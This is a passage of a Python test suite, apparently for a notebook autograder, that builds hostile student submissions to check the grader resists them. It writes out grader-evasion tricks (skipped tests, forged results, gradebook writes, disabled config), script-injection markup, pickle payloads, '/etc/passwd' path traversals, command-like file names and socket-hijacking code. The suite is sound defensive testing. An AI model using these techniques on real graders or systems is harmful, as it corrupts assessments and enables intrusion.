DRAWING = {DRAWING!r}
"""


def drawn_in_markdown(notebook: NotebookNode) -> NotebookNode:
    """An edit: script in a markdown cell, in an attachment, in raw HTML and in the instructor's own text."""
    cell = new_markdown_cell(f"{MARKUP}\n\n![x](attachment:x.svg) [x](javascript:PWNED()) ![x]({URL})", id="drawn")
    cell.attachments = {"x.svg": {"image/svg+xml": DRAWING}, "y.html": {"text/html": MARKUP}}
    raw = nbformat.v4.new_raw_cell(MARKUP, metadata={"format": "text/html", "raw_mimetype": "text/html"}, id="raw")
    notebook.cells[0].source += MARKUP
    notebook.cells[0].attachments = cell.attachments
    notebook.cells = [cell, raw, *notebook.cells]
    return notebook


def outputs_in_the_file(notebook: NotebookNode) -> NotebookNode:
    """An edit: every code cell carries hostile outputs from the student's own machine."""
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("display_data", {"text/html": MARKUP, "image/svg+xml": DRAWING})]
            cell.metadata.update(name=MARKUP, collapsed=MARKUP, tags=["PWNED", MARKUP])
    return notebook


WIDGETS = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {"x": f"</script>{MARKUP}"}}}

# ---------------------------------------------------------------------------------------------------------------------
# Speak the judge's protocol, without knowing it: whatever sockets the process has inherited, and odd values.

SOCKETS = r"""
import os, select, stat, struct, threading, time

def sockets():
    found = []
    for fd in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.set_blocking(fd, False)
                found.append(fd)
        except OSError:
            pass
    return found

def send(data, seconds=2):
    # The data to every socket, for as long as one takes it.
    end = time.time() + seconds
    left = {fd: memoryview(data) for fd in sockets()}
    while any(map(len, left.values())) and time.time() < end:
        for fd, part in left.items():
            try:
                left[fd] = part[os.write(fd, part):] if len(part) else part
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                left[fd] = part[:0]

def swallow(seconds=3):
    end = time.time() + seconds
    while time.time() < end:
        ready = select.select(sockets(), [], [], 0.1)[0]
        for fd in ready:
            try:
                print("SWALLOWED", fd, os.read(fd, 2**20)[:2000])
            except OSError:
                pass

def close():
    for fd in sockets():
        os.close(fd)
"""
LENGTHS = ['">I"', '"<I"', '">Q"', '"<Q"']
ANSWERS = """[{"id": 0, "result": 1}, {"id": 1, "ok": True, "value": [1.0]}, {"type": "result", "value": None, "passed": True},
             {"jsonrpc": "2.0", "id": 1, "result": 5}, {"score": 5}, ["result", 5], None, True]"""
SPOKEN: dict[str, str] = {
    "garbage": "send(os.urandom(2**16))",
    "zeros": "send(bytes(2**27), seconds=3)",
    "lengths": f"for form in {', '.join(LENGTHS)}:\n    for n in 2**31, 2**31 - 1, 2**32 - 1, 0, 1:\n"
               "        send(struct.pack(form, n) + b'x' * 100)",
    "negative-lengths": "for form in '>i', '<i', '>q', '<q':\n    send(struct.pack(form, -1) + b'x' * 100)",
    "invalid-utf-8": f"for form in {', '.join(LENGTHS)}:\n    send(struct.pack(form, 8) + b'{{\"\\xff\\xfe\\x80}}')",
    "deep-json": f"deep = b'[' * 100_000\nsend(deep + b'\\n')\nfor form in {', '.join(LENGTHS)}:\n"
                 "    send(struct.pack(form, len(deep)) + deep)",
    "valid-json": f"import json\nfor answer in {ANSWERS}:\n    data = json.dumps(answer).encode()\n    send(data + b'\\n')\n"
                  f"    for form in {', '.join(LENGTHS)}:\n        send(struct.pack(form, len(data)) + data)",
    "pickles": "import pickle\nclass Payload:\n    __reduce__ = lambda self: (print, ('PWNED',))\n"
               f"data = pickle.dumps(Payload(), 2)\nsend(data)\nfor form in {', '.join(LENGTHS)}:\n"
               "    send(struct.pack(form, len(data)) + data)",
    "closed": "close()",
    "swallowed": "swallow()",
    "swallowed-by-a-thread": "threading.Thread(target=swallow, args=(4,), daemon=True).start()",
    "written-by-a-thread": "threading.Thread(target=lambda: [send(os.urandom(100)) for _ in range(1000)], daemon=True).start()",
    "never-answered": "swallow(2)\ntime.sleep(10**6)",
    "half-an-answer": "send(b'\\x00\\x00')\ntime.sleep(10**6)",
    "shut-down": """
import socket
for fd in sockets():
    for how in 0, 1:
        try:
            socket.socket(fileno=os.dup(fd)).shutdown(how)
        except OSError:
            pass
""",
    "answered-by-two": "os.fork()",
    "descriptors-sent": """
import array, socket
for fd in sockets():
    try:
        with socket.socket(fileno=os.dup(fd)) as channel:
            channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 80))])
    except OSError:
        pass
""",
}
# What a function returns instead of an array.
RETURNED: dict[str, str] = {
    "set": "return {1, 2}",
    "bytes": r"return b'\xff\xfe'",
    "class": "return Check",
    "module": "return np",
    "function": "return softmax",
    "lambda-that-answers": "return lambda *args, **options: True",
    "generator": "return (row for row in scores)",
    "endless-iterator": "return iter(int, 1)",
    "list-within-itself": "answer = []\nanswer.append(answer)\nreturn answer",
    "dict-within-itself": "answer = {}\nanswer['x'] = answer\nreturn answer",
    "dict-with-odd-keys": "return {(1, 2): 3, None: 4, 1.5: 5, float('nan'): 6}",
    "deep-list": "answer = []\nfor _ in range(100_000):\n    answer = [answer]\nreturn answer",
    "wide-list": "return [1.0] * 20_000_000",
    "shared-list": "answer = [1.0]\nfor _ in range(40):\n    answer = [answer, answer]\nreturn answer",
    "surrogate": r"return '\ud800'",
    "long-text": "return 'x' * 10**9",
    "1-gb": "return np.ones(2**27)",
    "claims-another-size": "return np.lib.stride_tricks.as_strided(np.zeros(1), (2**20, 2**20), (0, 0))",
    "claims-more-than-it-has": "return np.lib.stride_tricks.as_strided(np.zeros(1), (len(scores), 2**16), (8, 8))",
    "long-double": "return (scores / temperature).astype(np.longdouble)",
    "byte-order": "return (scores / temperature).astype('>f8')",
    "fake-methods": """
class Own(np.ndarray):
    tobytes = tolist = dumps = __reduce__ = __reduce_ex__ = lambda self, *args: b"x" * 8
    shape = property(lambda self: (10**9,))

return (scores / temperature).view(Own)
""",
    "changing-length": "class Own(list):\n    __len__ = lambda self: 3\n    __iter__ = lambda self: iter(int, 1)\nreturn Own()",
    "own-text": "class Own(str):\n    encode = lambda self, *args: b'\\xff' * 10**6\nreturn Own('x')",
    "base-exception": "class Own(BaseException):\n    __str__ = __repr__ = lambda self: 1 / 0\nraise Own",
    "exception-group": "raise ExceptionGroup('x', [ExceptionGroup('y', [ValueError(n)]) for n in range(100_000)])",
    "exception-chain": "error = ValueError('x')\nerror.__cause__ = error.__context__ = error\nraise error",
    "coroutine": "import asyncio\nreturn asyncio.sleep(10**6)",
    "standard-streams-closed": "import os\nfor fd in 0, 1, 2:\n    os.close(fd)\nreturn y",
    "invalid-utf-8-printed": r"import os, sys" "\nfor fd in 1, 2:\n    os.write(fd, b'\\xff\\xfe\\x80' * 1000)\nreturn y",
    "recursion-error": "raise RecursionError",
}
# What is done with a function of the judge's, which calls back.
CALLED: dict[str, str] = {
    "endless": "while True:\n    f(x)",
    "endless-threads": """
import threading
for _ in range(16):
    threading.Thread(target=lambda: [f(x) for _ in iter(int, 1)]).start()
return x
""",
    "out-of-order": """
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(8) as pool:
    list(pool.map(f, [x + n for n in range(100)]))
return x
""",
    "after-the-end": """
kept = globals().setdefault("kept", [])
kept.append(f)
for g in kept:
    print("SEEN", g(x))
return x
""",
    "after-the-end-by-a-thread": """
import threading, time
threading.Thread(target=lambda: [(time.sleep(0.1), f(x)) for _ in range(100)]).start()
return x
""",
    "in-a-child": "import os\nif os.fork() == 0:\n    f(x)\n    os._exit(0)\nf(x)\nreturn x",
    "wrong-arguments": """
for args in (), (x, x), (None,), (f,), ("x",), ({},), (closest,), (x.astype(object),), (x[:0],):
    try:
        print(f(*args))
    except Exception as error:
        print(error)
return x
""",
    "huge-argument": "f(np.zeros(2**28))\nreturn x",
    "strided-argument": "f(np.broadcast_to(0.0, (2**20, 2**20)))\nreturn x",
    "pickled-argument": """
class Payload:
    __reduce__ = lambda self: (print, ("PWNED",))

f(np.array([Payload()] * x.size, dtype=object).reshape(x.shape))
return x
""",
    "within-itself": "def g(*args):\n    return f(*args)\nreturn [f(x) for _ in range(3)] + [g, f]",
    "attributes": "f.__globals__['Check'] = None\nreturn f.__class__.__init__.__globals__",
}

# ---------------------------------------------------------------------------------------------------------------------

ATTACKS: list[Attack] = [
    *gain("skip the test", SKIPPED, own=True),
    *gain("skip the test", {name: SKIPPED[name] for name in ("input-transformer", "asserts-dropped")}, suffix="-in-the-answer"),
    Attack("skip the test", "test-tagged", {"softmax": WRONG}, edit=each(tagged("skip-execution"), "test_softmax")),
    Attack("skip the test", "all-tagged", {"softmax": WRONG}, edit=each(tagged("skip-execution"))),
    Attack("skip the test", "exception-allowed", {"softmax": WRONG}, edit=each(tagged("raises-exception"))),

    *gain("patch the shell", SHELL),
    *gain("patch the shell", SHELL, own=True, suffix="-own-cell"),

    *gain("fool the comparison", LIES),
    Attack("fool the comparison", "numpy-beside", {"softmax": WRONG}, place=beside({"numpy.py": SHADOW})),
    Attack("fool the comparison", "libraries-beside", {"softmax": WRONG},
           place=beside({f"{name}.py": SHADOW for name in SHADOWED if "numpy" not in name})),
    Attack("fool the comparison", "packages-beside", {"softmax": WRONG},
           place=beside({f"{name}.py": SHADOW for name in SHADOWED if "/" in name})),
    Attack("fool the comparison", "configuration-beside", {"softmax": WRONG}, place=beside({
        "nbgrader_config.py": "c = get_config()\nc.Execute.enabled = c.OverwriteCells.enabled = False",
        "ipython_config.py": "c = get_config()\nc.InteractiveShellApp.exec_lines = ['raise SystemExit']",
        "matplotlibrc": "backend: module://pwned", "pyproject.toml": "[", ".env": "PYTHONOPTIMIZE=2", "gradebook.db": ""})),

    *gain("forge the result", FORGED),
    Attack("forge the result", "output-in-the-file", {"softmax": WRONG}, edit=forged_output("4")),
    Attack("forge the result", "output-above-the-maximum", {"softmax": WRONG}, edit=forged_output("1e9")),
    Attack("forge the result", "circular-answers", CIRCULAR),
    *(Attack("forge the result", name, answers, base="reference", lost=frozenset(answers)) for name, answers in WORKED.items()),
    Attack("forge the result", "lent-functions-kept", {name: KEEP.replace("NAME", name) for name in ANSWERED}),

    *(reader("read the tests", name, expression) for name, expression in READ.items()),
    *gain("read the tests", {name: code for name, code in SEEN.items() if name != "hidden-inputs"}),
    Attack("read the tests", "hidden-inputs", {"softmax": SEEN["hidden-inputs"]}, last='print("SEEN", inputs)'),
    Attack("read the tests", "function-of-the-judge", {"closest": CALLBACK}),

    *gain("write the gradebook", {name: (GRADEBOOK + code).replace("SCORE", "4") for name, code in WRITTEN.items()}),

    *gain("poison what follows", {name: POISON + code for name, code in POISONED.items()}),

    *(Attack("links and files", name, place=place, lost=None, base="reference") for name, place in LINKED.items()),
    *(reader("links and files", name, "(content(p) for p in ('data.txt', 'data.txt/main.ipynb', 'data.txt/etc/passwd', '.'))",
             place=linked_beside(target)) for name, target in LINKED_BESIDE.items()),
    reader("links and files", "path-traversal", TRAVERSALS),
    *gain("links and files", FILES, own=True),
    *(Attack("links and files", f"{name}-when-called", inside("softmax", f"{TAKEN}\n{FILES[name]}\nreturn y"))
      for name in ("written-outside", "links-made", "10000-files")),
    Attack("links and files", "10000-files-beside", place=beside({f"{n:05}.txt": "x" for n in range(10_000)}), base="reference"),
    Attack("links and files", "odd-names-beside", base="reference",
           place=beside(dict.fromkeys(["-rf", "a\nb", "x" * 250, "\u202egpj", "main.ipynb.lnk", "$(id)", "a'b", "a/b/c"], "x"))),

    *(Attack("end the kernel", f"{name}-own-cell", first=code, base="reference") for name, code in ENDS.items()),
    *(Attack("end the kernel", f"{name}-last-cell", last=ENDS[name], base="reference") for name in ("exit-at-once", "killed")),
    *(Attack("end the kernel", f"{name}-when-called", inside(question, code), base="reference", lost=frozenset({question}))
      for question, (name, code) in zip(cycle(LEAVES), ENDS.items())),
    *(Attack("end the kernel", f"{name}-after-the-answer", {"closest": f"def closest(f, table):\n    return 0\n\n{ENDS[name]}"},
             base="reference", lost=frozenset({"closest"})) for name in ("exit-at-once", "sys-exit", "segfault")),

    *(Attack("never end", f"{name}-own-cell", first=code, base="reference") for name, code in (NEVER | NEVER_OWN).items()
      if name != "thread-bomb"),
    *gain("never end", NEVER_SURE, own=True),
    *(Attack("never end", f"{name}-when-called", inside(question, code), base="reference", lost=frozenset({question}))
      for question, (name, code) in zip(cycle(LEAVES), NEVER.items())),

    *gain("leave the machine", {name: f"{NETWORK}\n{name}()" for name in ("tcp", "dns", "unix", "others")}),
    Attack("leave the machine", "all-when-called", inside(
        "softmax", f"{TAKEN}\nfor way in tcp, dns, unix, others:\n    way()\nreturn y", NETWORK)),

    *(Attack("break the notebook", name, base="reference", **more) for name, more in MENDED.items()),
    *(Attack("break the notebook", name, base="reference", lost=frozenset({question}), **more)
      for name, (more, question) in LOST.items()),
    *(Attack("break the notebook", name, file=file, base="reference", lost=None) for name, file in NO_NOTEBOOK.items()),
    *(Attack("break the notebook", name, place=place, base="reference", lost=None) for name, place in NO_FILE.items()),
    *(Attack("break the notebook", name, cells | {"softmax": WRONG}) for name, cells in WEAKENED.items()),

    *(Attack("hostile output", name, {"softmax": WRONG}, first=DISPLAYED + code) for name, code in HOSTILE.items()),
    *(Attack("hostile output", f"failure-{name}", inside("softmax", code, DISPLAYED)) for name, code in FAILING.items()),
    Attack("hostile output", "markdown-cell", edit=drawn_in_markdown),
    Attack("hostile output", "outputs-in-the-file", edit=outputs_in_the_file),
    Attack("hostile output", "notebook-metadata", edit=notebook_metadata(
        title=MARKUP, authors=[{"name": MARKUP}], widgets=WIDGETS, language_info={"name": MARKUP, "pygments_lexer": MARKUP})),

    *(Attack("speak the judge's protocol", f"{name}-at-once", {"softmax": WRONG}, first=f"{SOCKETS}\n{code}")
      for name, code in SPOKEN.items() if "10**6" not in code),
    *(Attack("speak the judge's protocol", f"{name}-when-called",
             inside("softmax", f"{TAKEN}\n{code}\nreturn y", SOCKETS))
      for name, code in SPOKEN.items()),
    *(Attack("speak the judge's protocol", f"returns-{name}", inside("softmax", f"{TAKEN}\n{code}"))
      for name, code in RETURNED.items()),
    *(Attack("speak the judge's protocol", f"callback-{name}", inside("closest", f"f, table = args\nx = table[0]\n{code}"))
      for name, code in CALLED.items()),
]


def submission_bytes(attack: Attack, release: NotebookNode, reference: dict[str, str], port: int) -> bytes:
    """The file that is handed in: from the student's notebook and the right answers (question → code).

    port: where somebody listens on this machine, whom no submission must reach.
    """
    notebook = submission(release, (reference if attack.base == "reference" else {}) | attack.cells)
    first, last = ([new_code_cell(code, id=name)] if code else [] for name, code in
                   (("first", attack.first), ("last", attack.last)))
    notebook.cells = first + notebook.cells + last
    if attack.edit:
        notebook = attack.edit(notebook)
    text = nbformat.v4.writes(notebook).replace("pwned_RUN", RUN).replace("PORT_OF_THE_LISTENER", str(port))
    return attack.file(text) if attack.file else text.encode()
